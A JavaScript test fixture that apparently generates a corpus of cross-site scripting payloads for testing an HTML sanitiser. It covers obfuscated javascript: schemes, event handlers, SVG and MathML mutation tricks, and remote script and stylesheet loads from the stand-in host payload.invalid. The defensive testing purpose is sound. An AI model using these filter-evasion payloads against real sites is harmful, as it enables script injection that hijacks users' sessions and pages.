// A corpus of hostile markup and URLs for the sanitiser, written for this
// project. It is built from the families of attack that public sanitiser
// test suites exercise (the OWASP XSS Filter Evasion Cheat Sheet, the
// html5lib sanitizer tests, DOMPurify's and sanitize-html's test suites):
// script and style elements, event-handler attributes on every kind of
// element, dangerous URL schemes hidden by case, entities, whitespace and
// control characters, SVG and MathML namespace confusion, mutation-XSS
// shapes (noscript, template, comments, CDATA), meta refresh, base href,
// forms, frames, objects and CSS expressions. Every payload, if it ever
// ran, would call window.__xss(<its number>) or fetch from payload.invalid,
// so the tests can see it.

const HOST = 'https://payload.invalid';

const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle',
  'onpointerenter', 'onbegin', 'onscroll', 'OnErRoR', 'onauxclick'];

const schemes = [
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  ' javascript:CALL',
  'java\tscript:CALL',
  'java&#x09;script:CALL',
  'java&#10;script:CALL',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;CALL',
  '&#x6A;avascript:CALL',
  'javascript&colon;CALL',
  '\u0001javascript:CALL',
  'vbscript:CALL',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoMCk8L3NjcmlwdD4=',
  'data:text/html,<script>CALL</script>',
  'jAvAsCrIpT://%0aCALL',
];

/** Builds the corpus; `n` in CALL becomes each payload's own number. */
export function corpus() {
  const templates = [];
  // 1. Script and style elements in every guise.
  templates.push('<script>CALL</script>', '<SCRIPT SRC=HOST/x.js></SCRIPT>', '<script/x>CALL</script>',
    '<scr<script>ipt>CALL</scr</script>ipt>', '<style>@import "HOST/x.css";</style>',
    '<style>body{background:url(javascript:CALL)}</style>', '<script type="module">CALL</script>');
  // 2. Event handlers on many elements.
  for (const handler of handlers) {
    templates.push(`<img src=x ${handler}="CALL">`, `<svg ${handler}="CALL"></svg>`,
      `<details open ${handler}="CALL">x</details>`, `<p ${handler}="CALL" tabindex=0 autofocus>handler</p>`);
  }
  templates.push('<body onload=CALL>', '<input autofocus onfocus=CALL>', '<video><source onerror="CALL"></video>',
    '<audio src=x onerror=CALL>', '<marquee onstart=CALL>m</marquee>', '<select autofocus onfocus=CALL>',
    '<textarea autofocus onfocus=CALL></textarea>', '<keygen autofocus onfocus=CALL>', '<object data=x onerror=CALL>');
  // 3. Dangerous URL schemes in every URL-taking place.
  for (const scheme of schemes) {
    templates.push(`<a href="${scheme}">link</a>`, `<img src="${scheme}">`, `<iframe src="${scheme}"></iframe>`,
      `<form action="${scheme}"><button>go</button></form>`, `<button formaction="${scheme}">b</button>`);
  }
  // 4. Namespace confusion and mutation-XSS shapes.
  templates.push(
    '<svg><script>CALL</script></svg>',
    '<svg><a href="javascript:CALL"><text x=1 y=1>svg link</text></a></svg>',
    '<svg><animate onbegin=CALL attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:CALL>',
    '<math><mtext><table><mglyph><style><img src=x onerror=CALL>',
    '<math href="javascript:CALL">math</math>',
    '<noscript><p title="</noscript><img src=x onerror=CALL>">',
    '<template><img src=x onerror=CALL></template>',
    '<!--<img src="--><img src=x onerror=CALL//">',
    '<![CDATA[<img src=x onerror=CALL>]]>',
    '<xmp><img src=x onerror=CALL></xmp>',
    '<plaintext><img src=x onerror=CALL>',
    '<title><img src=x onerror=CALL></title>',
    '<textarea><img src=x onerror=CALL></textarea>',
    '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058CALL">entities</a>');
  // 5. Page takeover: meta refresh, base, forms, frames, objects, CSS.
  templates.push(
    '<meta http-equiv="refresh" content="0;url=javascript:CALL">',
    '<meta http-equiv="refresh" content="0;url=HOST/">',
    '<base href="HOST/">',
    '<link rel=stylesheet href="HOST/x.css">',
    '<link rel=import href="HOST/x.html">',
    '<object data="HOST/x.swf"></object>',
    '<embed src="HOST/x.swf">',
    '<applet code="x"></applet>',
    '<frameset><frame src="javascript:CALL"></frameset>',
    '<div style="background:url(javascript:CALL)">styled</div>',
    '<div style="width:expression(CALL)">expression</div>',
    '<div style="background-image:url(HOST/x.png)">bg</div>',
    '<img src="x" srcset="HOST/x.png 2x, HOST/y.png 3x" sizes="100vw">',
    '<picture><source srcset="HOST/x.png"><img src="x" alt="p"></picture>',
    '<a href="HOST/" ping="HOST/ping">ping</a>',
    '<form><input name=parentNode></form>',
    '<img name=getElementById>',
    '<portal src="HOST/"></portal>',
    '<dialog open onclose=CALL>d</dialog>',
    '<div id="main" class="skip-link" tabindex=0>spoofed chrome</div>',
    '<h1 onmouseover=CALL>fake title</h1>');
  return templates.map((template, index) =>
    template.replaceAll('CALL', `window.__xss(${index + 1})`).replaceAll('HOST', HOST));
}

/** Text fields get payloads as text: they must show literally, never parse. */
export const textPayloads = [
  '<script>window.__xss(-1)</script>',
  '<img src=x onerror=window.__xss(-2)>',
  '"><svg onload=window.__xss(-3)>',
  '{{constructor.constructor("window.__xss(-4)")()}}',
];

export const urlPayloads = schemes.map((s, i) => s.replaceAll('CALL', `window.__xss(${-(10 + i)})`));

export { HOST };
